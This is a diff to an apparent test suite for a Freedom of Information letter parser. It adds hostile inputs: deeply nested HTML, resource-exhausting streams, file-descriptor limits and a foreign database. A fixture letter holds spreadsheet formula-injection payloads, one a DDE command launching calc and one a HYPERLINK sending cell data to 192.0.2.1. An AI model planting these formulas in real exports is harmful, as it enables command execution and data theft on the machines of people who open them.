@@ -349,6 +349,31 @@ def _left_alone(path: Path) -> str | None:
     return None if same else "another program's database was changed"
 
 
+def _foreign_view_db(path: Path) -> None:
+    """Another program's database holding only a view: no table at all, yet not empty."""
+    import sqlite3
+
+    (path / "in").mkdir(parents=True)
+    (path / "in" / "letter.txt").write_bytes(_letter())
+    with sqlite3.connect(path / "theirs.sqlite") as conn:
+        conn.execute("CREATE VIEW totals_v AS SELECT 1 AS x")
+    conn.close()
+    (path / "theirs.copy").write_bytes((path / "theirs.sqlite").read_bytes())
+
+
+def _stdin_letter(path: Path) -> None:
+    path.write_bytes(_letter())
+    (path.parent / (path.name + ".copy")).write_bytes(_letter())
+
+
+def _stdin_letter_kept(path: Path) -> str | None:
+    return (
+        None
+        if path.read_bytes() == (path.parent / (path.name + ".copy")).read_bytes()
+        else "the input was written over"
+    )
+
+
 FORMULA_LETTER = """<html><body><p>Dear Ms Okoro,</p><p>Leicester City Council holds the following.</p>
 <table><tr><th>=cmd|' /C calc'!A0</th><th>Count</th><th>Note</th></tr>
 <tr><td>=HYPERLINK("http://192.0.2.1/?q="&amp;A1,"click")</td><td>-3</td><td>+cmd|' /C calc'!A0</td></tr>
@@ -628,6 +653,18 @@ def _long_part_headers(count: int, length: int) -> bytes:
     )
     body = b"--BB\r\nContent-Type: text/plain\r\n\r\nDear Sir, see attached.\r\n" + parts + b"--BB--\r\n"
     return _mail(b"Subject: replies\r\nContent-Type: multipart/mixed; boundary=BB", body)
+
+
+def _reads_with_warning(name: str, wanted: str, code: str) -> Callable[[Path], str | None]:
+    """A check that the JSON written for ``name`` holds ``wanted`` and a warning of ``code``."""
+
+    def check(path: Path) -> str | None:
+        problem = _reads_as(name, wanted)(path)
+        if problem is None and f'"{code}"' not in (path / (Path(name).stem + ".json")).read_text(encoding="utf-8"):
+            return f"{name} has no {code} warning"
+        return problem
+
+    return check
 
 
 KINDS: list[Kind] = [
@@ -967,6 +1004,93 @@ KINDS: list[Kind] = [
     # <p> inside <foreignObject> opens inside it: 90,000 levels deep in lexbor, over the depth limit.
     Kind(
         "html-foreignobject-30000.html", _write(b"<svg><foreignObject><p>x" * 30_000), 9, "nested too deep", seconds=5
+    ),
+    # Buttons, forms, headings and selects the tree builder closes or ignores: lexbor builds them flat
+    # (once refused as nested too deep).
+    Kind(
+        "html-flat-buttons-forms-headings-selects.html",
+        _write(
+            b"<html><body><p>Dear Sir, we hold 12 files.</p>"
+            + b"<button>b" * 12_000
+            + b"<form>d" * 12_000
+            + b"<h1>a<h2>b" * 6_000
+            + b"<select>" * 12_001
+            + b"</body></html>"
+        ),
+        0,
+        seconds=10,
+    ),
+    # <rt> and <optgroup> outside <ruby> and <select> nest, 30,000 deep in lexbor (once counted flat).
+    Kind(
+        "html-rt-optgroup-30000.html",
+        _write(b"<html><body><p>Dear Sir,</p>" + b"<rt><optgroup>x" * 15_000),
+        9,
+        "nested too deep",
+    ),
+    # A part labelled UTF-16 whose bytes are ASCII: read as the ASCII it is, with a warning (once CJK).
+    Kind(
+        "eml-utf16-label-ascii-body",
+        _in_folder(
+            "reply.eml",
+            _mail(b"Subject: re\r\nContent-Type: text/plain; charset=utf-16", b"Dear Sir, we hold 12 files.\r\n"),
+        ),
+        0,
+        args=("{path}/reply.eml", "-o", "{path}/reply.json"),
+        after=_reads_with_warning("reply.eml", "Dear Sir, we hold 12 files.", "charset_mislabelled"),
+    ),
+    # A letter whose first line begins "%PDF-1.4": text, not a corrupt PDF.
+    Kind(
+        "text-beginning-with-pdf-header.txt",
+        _write(b"%PDF-1.4 was the header of the file you sent; it did not open.\n\nDear Sir, we hold 12 files.\n"),
+        0,
+    ),
+    # Found by the second outside-style audit (issue 13): each once a traceback, data lost or a machine's memory.
+    Kind(
+        "stdout-closed.txt",
+        _write(_letter()),
+        1,
+        "standard output is closed",
+        prefix=("sh", "-c", 'exec "$@" >&-', "sh"),
+    ),
+    Kind(
+        "stdin-is-the-output.txt",
+        _stdin_letter,
+        2,
+        "the output is also an input (standard input)",
+        args=("-", "-o", "{path}"),
+        prefix=("sh", "-c", 'for f; do :; done; exec "$@" < "$f"', "sh"),  # the path, last, on standard input
+        after=_stdin_letter_kept,
+    ),
+    Kind(
+        "stdin-endless-under-a-terabyte-max-bytes",
+        _write(b""),
+        9,
+        "ran out of memory while parsing (the cap is 200 MB)",
+        args=("-", "--max-bytes", str(2**40), "--max-memory", "200", "-o", "{path}"),
+        prefix=("sh", "-c", 'yes "We hold 12 files." | "$@"', "sh"),
+        seconds=30,
+    ),
+    Kind(
+        "open-file-limit-6",
+        _letters,
+        1,
+        "Too many open files",
+        args=("ingest", "-q", "{path}/in", "--db", "{path}/foi.sqlite", "-j", "2"),
+        prefix=("sh", "-c", 'ulimit -n 6 && exec "$@"', "sh"),
+    ),
+    Kind(
+        "foreign-sqlite-view-only",
+        _foreign_view_db,
+        1,
+        "not a foiparse database",
+        args=_ingest_args("theirs.sqlite"),
+        after=_left_alone,
+    ),
+    Kind(
+        "citation-list-of-250000.txt",
+        _write(b"Dear Sir,\n\nWithheld under sections " + b"40, " * 250_000 + b"and 43 of the FOIA.\n"),
+        0,
+        seconds=40,
     ),
 ]
 
